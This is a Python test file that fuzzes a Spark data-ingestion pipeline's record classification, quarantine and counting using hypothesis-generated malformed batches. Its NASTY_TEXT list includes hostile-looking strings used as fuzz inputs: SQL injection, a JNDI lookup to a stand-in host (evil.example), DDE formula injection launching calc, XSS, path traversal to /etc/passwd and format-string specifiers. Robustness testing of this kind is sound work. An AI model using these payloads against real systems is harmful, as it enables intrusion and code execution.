"""Fuzzed records of every configured source through the path ingestion takes (`classify_lines`,
`bronze_rows`, `quarantine_rows`, `batch_counts`).

The strategies are built from each `SourceSpec` of conf/sources, so a new source is fuzzed by
its configuration alone. One example is a batch of 1-40 lines: valid records (their values
known), malformed ones (wrong types, missing, extra and NULL fields, extreme numbers and times,
unicode, injection-looking text, huge values, broken JSON and CSV) and raw bytes (binary,
Latin-1, NULs). Whatever the batch, nothing raises, every line is counted once, every record is
kept or quarantined, every quarantine row has a reason and reason codes, every valid record is
kept unchanged and no kept string holds mojibake.

Spark makes an example cost about a second, so a run is a few examples per source, always the
same ones (`derandomize`); `JOURNEYLAKE_FUZZ_EXAMPLES=60` soaks for longer.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
from dataclasses import dataclass, field
from datetime import date, datetime, timedelta, timezone
from decimal import Decimal

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from pyspark.sql import Column, SparkSession
from pyspark.sql import functions as F

from journeylake.bronze.contracts import CONTROL_CHARACTERS
from journeylake.bronze.ingestion import (
    batch_counts,
    bronze_rows,
    classify_lines,
    quarantine_rows,
)
from journeylake.bronze.tables import RAW, SOURCE_FILE
from journeylake.core.config import load_config
from journeylake.core.source_spec import DECIMAL_TYPE, JSON_PREFIX, FieldSpec, SourceSpec
from tests.conftest import CONF_DIR

SOURCES = load_config("local", conf_dir=CONF_DIR).sources
INGESTED_AT = datetime(2026, 7, 1, 12, 0, 0)
EXAMPLES = int(os.environ.get("JOURNEYLAKE_FUZZ_EXAMPLES", "3"))
FUZZ = settings(
    max_examples=EXAMPLES,
    deadline=None,
    derandomize=True,  # the same examples on every run and in CI
    database=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)
VALID_PREFIX = "VALID-"
EPOCH = datetime(1970, 1, 1)

# Values that have broken parsers: numbers, times, unicode, injections, JSON shapes.
NASTY_NUMBERS = [
    "1e400", "-1e400", "NaN", "Infinity", "-Infinity", "1" + "0" * 400, "-" + "9" * 40,
    "0." + "0" * 400 + "1", "9223372036854775807", "9223372036854775808",
    "-9223372036854775809", "1e-400", "0x1F", "1_000", " 12 ", "\u0661\u0662", "12abc", "-0",
    "+5", ".5", "5.", "1e18", "99999999999999999.995",
]
NASTY_TIMES = [
    "9999-12-31T23:59:59Z", "0000-01-01T00:00:00Z", "-290000-01-01", "+294247-01-10T04:00:54Z",
    "2026-02-30T00:00:00Z", "2026-06-30T25:61:00Z", "1970-01-01", "2026-06-30 10:00:00",
    "2026-06-30T10:00:00+25:00", "9223372036854775807", "-9223372036854775808",
    "9223372036854775", "253402300800000", "1e20",
]
NASTY_TEXT = [
    "\U0001f600\U0001f469\u200d\U0001f469\u200d\U0001f467", "\u202eevil\u202c",
    "e\u0301\u0301\u0301", "\u200b", "\ufeffbom", "\u0627\u0644\u0639\u0631\u0628\u064a\u0629",
    "'; DROP TABLE bronze_clickstream;--", "${jndi:ldap://evil.example/a}",
    "=cmd|' /C calc'!A0", "+SUM(1+1)*cmd|' /C calc'!A0", "@SUM(1)", "<script>alert(1)</script>",
    "../../etc/passwd", "%s%s%n", "{{7*7}}", "null", "NULL", "None", "\\", '"', "'", ",", ";",
    "\t", "\u2028",
]
# JSON tokens (not text): other types, escapes, nesting.
NASTY_JSON = [
    "true", "false", "null", "[]", "{}", "[1,2]", '{"a":{"b":[]}}', '"\\ud800"',
    '"\\udfff\\ud800"', '"\\u0000"', '"\\ufffd"', "[" * 2000 + "]" * 2000, "1e400", "-0",
    '"' + "x" * 1_000_000 + '"',
]


@dataclass
class Batch:
    """Lines as bytes, and for each valid record its marker (the first key value) and the
    value every contract field must have in bronze (see `probe`)."""

    lines: list[bytes]
    expected: dict[str, tuple[object, ...]] = field(default_factory=dict)


# ---- valid values, from the field spec ----------------------------------------------------

_JAVA_TO_STRFTIME = {"yyyy": "%Y", "MM": "%m", "dd": "%d", "HH": "%H", "mm": "%M", "ss": "%S"}


def strftime_of(java_pattern: str) -> str:
    """The strftime pattern of a contract's date-time `format` (the letters the contracts
    use); any other letter fails here, naming the format, rather than fuzzing it wrongly."""
    parts = re.split(r"(yyyy|MM|dd|HH|mm|ss)", java_pattern)
    out = []
    for part in parts:
        if part in _JAVA_TO_STRFTIME:
            out.append(_JAVA_TO_STRFTIME[part])
        elif re.search(r"[A-Za-z']", part):
            raise ValueError(f"the fuzzer cannot write times in format {java_pattern!r}")
        else:
            out.append(part)
    return "".join(out)


@dataclass(frozen=True)
class Value:
    text: str  # as it stands in a CSV field
    json: str  # as a JSON token
    expected: object  # what `probe` reads back from bronze


def _text(value: str) -> Value:
    return Value(value, json.dumps(value, ensure_ascii=False), value)


_CLEAN = st.characters(
    blacklist_categories=("Cs", "Cc", "Co", "Cn"), blacklist_characters="\ufffd\ufeff"
)


def valid_value(spec: FieldSpec) -> st.SearchStrategy[Value]:
    low = spec.min if spec.min is not None else None
    high = spec.max if spec.max is not None else None
    if spec.allowed is not None:
        return st.sampled_from(spec.allowed).map(_text)
    type_name = spec.type
    if type_name == "string":
        return st.text(_CLEAN, min_size=1, max_size=12).map(str.strip).filter(bool).map(_text)
    if type_name in ("int", "integer", "long", "bigint"):
        bound = 2**31 if type_name in ("int", "integer") else 2**63
        ints = st.integers(
            int(low) if low is not None else -bound, int(high) if high is not None else bound - 1
        )
        return ints.map(lambda n: Value(str(n), str(n), n))
    if type_name in ("double", "float"):
        floats = st.floats(low, high, allow_nan=False, allow_infinity=False)
        return floats.map(lambda x: Value(repr(x), repr(x), x))
    decimal = DECIMAL_TYPE.match(type_name)
    if decimal:
        precision, scale = int(decimal.group(1)), int(decimal.group(2))
        limit = Decimal(10) ** (precision - scale) - Decimal(1).scaleb(-scale)
        decimals = st.decimals(
            Decimal(str(low)) if low is not None else -limit,
            Decimal(str(high)) if high is not None else limit,
            places=scale, allow_nan=False, allow_infinity=False,
        )
        return decimals.map(lambda d: Value(format(d, "f"), format(d, "f"), d))
    if type_name == "boolean":
        return st.booleans().map(lambda b: Value(str(b).lower(), str(b).lower(), b))
    times = st.datetimes(datetime(2000, 1, 1), datetime(2026, 6, 30))
    if type_name == "date":
        days = st.dates(date(2000, 1, 1), date(2026, 6, 30))
        return days.map(lambda d: Value(d.isoformat(), json.dumps(d.isoformat()),
                                        (d - EPOCH.date()).days))
    if type_name == "timestamp":
        return times.map(lambda t: _timestamp(spec.format or "iso8601", t))
    if type_name.startswith(JSON_PREFIX):
        empty = "[]" if type_name[len(JSON_PREFIX):].strip().startswith("array") else "{}"
        return st.just(Value(empty, empty, empty))
    raise ValueError(f"the fuzzer has no valid values of type {type_name!r}")


def _micros(moment: datetime) -> int:
    return (moment - EPOCH) // timedelta(microseconds=1)


def _timestamp(fmt: str, moment: datetime) -> Value:
    if fmt == "epoch_millis":
        moment = moment.replace(microsecond=moment.microsecond // 1000 * 1000)
        millis = str(_micros(moment) // 1000)
        return Value(millis, millis, _micros(moment))
    if fmt == "epoch_seconds":
        seconds = str(_micros(moment.replace(microsecond=0)) // 1_000_000)
        return Value(seconds, seconds, _micros(moment.replace(microsecond=0)))
    if fmt == "iso8601":
        text = moment.replace(tzinfo=timezone.utc).isoformat().replace("+00:00", "Z")
        return Value(text, json.dumps(text), _micros(moment))
    pattern = strftime_of(fmt)
    moment = moment.replace(microsecond=0)
    if "%S" not in pattern:
        moment = moment.replace(second=0)
    text = moment.strftime(pattern)
    return Value(text, json.dumps(text), _micros(moment))


def probe(spec: FieldSpec) -> Column:
    """A field's bronze value as `Value.expected` holds it: times as microseconds (no time zone
    conversion on the way to Python), JSON as its text."""
    column = F.col(spec.name)
    if spec.type == "timestamp":
        return F.unix_micros(column)
    if spec.type == "date":
        return F.unix_date(column)
    if spec.type.startswith(JSON_PREFIX):
        return F.to_json(column)
    return column


# ---- records and lines --------------------------------------------------------------------


def marker_field(source: SourceSpec) -> FieldSpec:
    """The key field that tells the valid records apart: a read string field without allowed
    values."""
    for name in source.key:
        spec = source.field(name)
        if spec.type == "string" and not spec.derived and spec.allowed is None:
            return spec
    raise ValueError(f"source {source.name}: no string key field to mark valid records with")


def render(source: SourceSpec, tokens: dict[str, tuple[str, str] | None]) -> str:
    """A line of the source from (csv text, json token) per file column; None leaves the
    column out (JSON) or empty (CSV); columns not in `source.file_columns` are extra."""
    if source.format == "json":
        items = [f"{json.dumps(name)}:{token[1]}" for name, token in tokens.items() if token]
        return "{" + ",".join(items) + "}"
    names = [*source.file_columns, *[name for name in tokens if name not in source.file_columns]]
    values = [(tokens.get(name) or ("", ""))[0] for name in names]
    out = io.StringIO()
    csv.writer(out, delimiter=source.csv.delimiter, quotechar=source.csv.quote,
               lineterminator="").writerow(values)
    return out.getvalue()


@st.composite
def valid_record(draw: st.DrawFn, source: SourceSpec, marker: str) -> tuple[str, tuple]:
    """A line meeting the contract, and the values `probe` must read for it."""
    tokens: dict[str, tuple[str, str] | None] = {}
    expected = []
    for spec in source.fields:
        if spec.derived:
            continue
        # A field with a default is always given: the default's bronze value is not known here.
        keep = spec.required or spec.default is not None or draw(st.booleans())
        value = draw(valid_value(spec)) if keep else None
        if spec.name == marker_field(source).name:
            value = _text(marker)
        expected.append(value.expected if value else None)
        if source.in_file(spec):
            tokens[spec.source_name] = (value.text, value.json) if value else None
    return render(source, tokens), tuple(expected)


def nasty_token(draw: st.DrawFn) -> tuple[str, str]:
    kind = draw(st.sampled_from(["number", "time", "text", "json", "any"]))
    if kind == "json":
        token = draw(st.sampled_from(NASTY_JSON))
        return token, token
    if kind == "any":
        text = draw(st.text(st.characters(blacklist_categories=("Cs",)), max_size=30))
    else:
        pool = {"number": NASTY_NUMBERS, "time": NASTY_TIMES, "text": NASTY_TEXT}[kind]
        text = draw(st.sampled_from(pool))
    as_number = kind == "number" and draw(st.booleans())
    return text, text if as_number else json.dumps(text, ensure_ascii=draw(st.booleans()))


@st.composite
def bad_record(draw: st.DrawFn, source: SourceSpec, index: int) -> bytes:
    """A line most likely breaking the contract: a valid one with some fields or the line
    itself broken, or bytes that are no record at all."""
    line, _ = draw(valid_record(source, f"BAD-{index}"))
    how = draw(st.sampled_from(["fields", "fields", "line", "bytes"]))
    if how == "bytes":
        choice = draw(st.sampled_from(["binary", "latin1", "nul", "garbage"]))
        if choice == "binary":
            return draw(st.binary(min_size=1, max_size=60))
        if choice == "latin1":
            return line.encode("latin-1", errors="replace") + "caf\u00e9".encode("latin-1")
        if choice == "nul":
            cut = draw(st.integers(0, len(line)))
            return (line[:cut] + "\u0000" + line[cut:]).encode()
        return draw(st.sampled_from(["null", "[]", "42", '"text"', "{", "}", ",,,,,,,,,,,,",
                                     '"', '""""', "{}{}", "x" * 1_000_000])).encode()
    if how == "line":
        choice = draw(st.sampled_from(["cut", "append", "prepend", "quote", "columns"]))
        if choice == "cut":
            return line[: draw(st.integers(0, max(0, len(line) - 1)))].encode()
        if choice == "append":
            return (line + draw(st.sampled_from(["}", ",", " trailing", "{}", "\ufffd"]))).encode()
        if choice == "prepend":
            return (draw(st.sampled_from(["[", "x", "\ufeff\ufeff", ","])) + line).encode()
        if choice == "quote":
            cut = draw(st.integers(0, len(line)))
            return (line[:cut] + '"' + line[cut:]).encode()
        delimiter = source.csv.delimiter if source.format == "csv" else ","
        extra = draw(st.integers(1, 5))
        return (line + delimiter * extra if draw(st.booleans())
                else line.rsplit(delimiter, extra)[0]).encode()
    # Fields: NULL, missing, extra, or a nasty value in place of some of them.
    tokens: dict[str, tuple[str, str] | None] = {}
    for name in source.file_columns:
        action = draw(st.sampled_from(["keep", "keep", "null", "drop", "nasty", "nasty"]))
        if action == "nasty":
            tokens[name] = nasty_token(draw)
        elif action == "null":
            tokens[name] = ("", "null")
        elif action == "keep":
            spec = next((f for f in source.read_fields if f.source_name == name), None)
            value = draw(valid_value(spec)) if spec else _text("unread")
            tokens[name] = (value.text, value.json)
    if draw(st.booleans()):
        tokens["unexpected_extra"] = nasty_token(draw)
    return render(source, tokens).encode()


def batches(source: SourceSpec) -> st.SearchStrategy[Batch]:
    @st.composite
    def batch(draw: st.DrawFn) -> Batch:
        size = draw(st.integers(1, 40))
        result = Batch([])
        for index in range(size):
            if draw(st.integers(0, 3)) == 0:
                marker = f"{VALID_PREFIX}{index}"
                line, expected = draw(valid_record(source, marker))
                result.lines.append(line.encode())
                result.expected[marker] = expected
            else:
                result.lines.append(draw(bad_record(source, index)))
        return result

    return batch()


# ---- the properties -----------------------------------------------------------------------


def check_batch(spark: SparkSession, source: SourceSpec, batch: Batch) -> None:
    # Bytes go to Spark as hex so that lines which are not UTF-8 arrive as they are.
    lines = spark.createDataFrame(
        [(line.hex(), "file:/fuzz/batch") for line in batch.lines],
        f"hex string, {SOURCE_FILE} string",
    ).select(F.unhex("hex").cast("string").alias(RAW), SOURCE_FILE)
    classified = classify_lines(
        lines, source, None, "fuzz-batch", F.lit(INGESTED_AT), 24
    ).persist()
    try:
        kept = bronze_rows(classified, source)
        quarantined = quarantine_rows(classified, source)
        counts = batch_counts(lines, source, kept, quarantined)
        counts.check(source.name)
        assert counts.rows_read + counts.blank_lines + counts.header_lines == len(batch.lines)

        unexplained = quarantined.where(
            F.col("reason").isNull() | (F.trim("reason") == "") | (F.size("reason_codes") == 0)
            | F.exists("reason_codes", lambda code: code.isNull() | (code == ""))
        )
        assert unexplained.count() == 0, unexplained.limit(3).collect()

        marker = marker_field(source).name
        strings = [spec.name for spec in source.fields if spec.type == "string"]
        mojibake = F.lit(False)
        for name in strings:
            value = F.col(name)
            mojibake = (mojibake | ~F.is_valid_utf8(value) | value.contains("\ufffd")
                        | value.rlike(CONTROL_CHARACTERS))
        fields = [spec for spec in source.fields if not spec.derived]
        mojibake = F.coalesce(mojibake, F.lit(False))
        seen = kept.where(F.col(marker).startswith(VALID_PREFIX) | mojibake)
        rows = seen.select(marker, mojibake.alias("_bad"),
                           *[probe(spec).alias(spec.name) for spec in fields]).collect()
        assert [r[marker] for r in rows if r["_bad"]] == []
        actual = {r[marker]: tuple(r[spec.name] for spec in fields) for r in rows}
        assert actual == batch.expected
    finally:
        classified.unpersist()


@pytest.mark.parametrize("source_name", sorted(SOURCES))
@FUZZ
@given(data=st.data())
def test_a_fuzzed_batch_is_counted_kept_or_quarantined_with_reasons(
    spark: SparkSession, source_name: str, data: st.DataObject
) -> None:
    source = SOURCES[source_name]
    check_batch(spark, source, data.draw(batches(source), label="batch"))


# What the fuzzer found, kept as fixed examples: an epoch time beyond Spark's range overflowed
# (ARITHMETIC_OVERFLOW under ANSI) and failed the whole batch; a JSON escape put a NUL or a
# U+FFFD into a kept value.
GOOD_PING = b"VALID-1,48.85,2.35,1782000000000,5"
REGRESSIONS = {
    "geolocation-epoch-overflow": ("geolocation", Batch(
        [b"BAD-1,1,1,9223372036854775807,1", b"BAD-2,1,1,-9223372036854775808,1",
         b"BAD-3,1,1,9223372036854776,1", GOOD_PING],
        {"VALID-1": ("VALID-1", 48.85, 2.35, 1782000000000000, 5.0)},
    )),
    "clickstream-escaped-controls": ("clickstream", Batch(
        [b'{"event_id":"BAD-1","cookie_id":"c\\u0000","event_type":"chat",'
         b'"timestamp":"2026-06-30T10:00:00Z"}',
         b'{"event_id":"BAD-2","cookie_id":"c","url":"/caf\\ufffd","event_type":"chat",'
         b'"timestamp":"2026-06-30T10:00:00Z"}',
         b'{"event_id":"VALID-1","cookie_id":"c","event_type":"chat",'
         b'"timestamp":"2026-06-30T10:00:00Z"}'],
        {"VALID-1": ("VALID-1", "c", None, None, None, 1782813600000000, "chat", None, None,
                     None, None, None, None, None, None)},
    )),
}


@pytest.mark.parametrize("case", sorted(REGRESSIONS))
def test_a_batch_the_fuzzer_broke_once_is_counted_kept_or_quarantined(
    spark: SparkSession, case: str
) -> None:
    source_name, batch = REGRESSIONS[case]
    check_batch(spark, SOURCES[source_name], batch)
